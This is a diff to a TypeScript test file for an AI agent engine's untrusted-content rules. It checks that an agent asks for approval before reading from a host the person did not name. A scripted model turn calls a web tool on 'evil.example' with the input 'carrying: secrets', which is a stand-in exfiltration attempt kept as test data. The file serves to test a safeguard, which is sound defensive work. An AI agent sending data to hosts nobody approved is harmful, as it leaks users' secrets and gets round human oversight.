@@ -1,6 +1,13 @@
 import { describe, expect, it } from 'vitest';
 import { type AgentBrief, agentKind, BRIEF, briefToJson, type TextListener } from '../src/agent/index.ts';
-import { Engine, type EngineOptions, type Policy, statusOf, type Tool } from '../src/engine/index.ts';
+import {
+  Engine,
+  type EngineOptions,
+  type Policy,
+  type PolicyVerdict,
+  statusOf,
+  type Tool,
+} from '../src/engine/index.ts';
 import { type Json, type JsonObject, OkaError } from '../src/kernel/index.ts';
 import { type EventStore, MemoryEventStore } from '../src/ledger/index.ts';
 import {
@@ -488,10 +495,10 @@ describe('untrusted content', () => {
     expect((await engine.resume(run.id)).output).toBe('Sent.');
   });
 
-  it('makes a read from a new host ask, unless the goal or a rule of the person names the host', async () => {
+  it('asks before it reads from a host that neither the person nor a rule of theirs names', async () => {
     const look = readTool('web.look', ({ host }: { host: string }) => `seen ${host}`, {
       untrusted: true,
-      reaches: (input) => (input as { host: string }).host,
+      reaches: (input) => [(input as { host: string }).host],
     });
     const turns = () =>
       new ListedModel(
@@ -501,10 +508,12 @@ describe('untrusted content', () => {
         calls(['web.look', { host: 'evil.example', carrying: 'secrets' }]),
         { text: 'Seen.' },
       );
-    const goal = { ...GOAL, goal: 'read a.example and named.example' };
+    const goal = { ...GOAL, namedHosts: ['a.example', 'named.example'] };
     const run = await agentEngine(turns(), [look]).run(goal);
     expect(run.waiting).toMatchObject({ for: 'approval', call: { input: { host: 'evil.example' } } });
-    expect((await agentEngine(turns(), [look], { policy: ALLOW }).run(goal)).output).toBe('Seen.');
+    const decide = (): PolicyVerdict => ({ ...ALLOW.decide({} as never), allowsDestination: true });
+    const policy = { ...ALLOW, decide };
+    expect((await agentEngine(turns(), [look], { policy }).run(goal)).output).toBe('Seen.');
   });
 
   it('are not covered by a grant for the whole tool, only by one for these arguments', async () => {
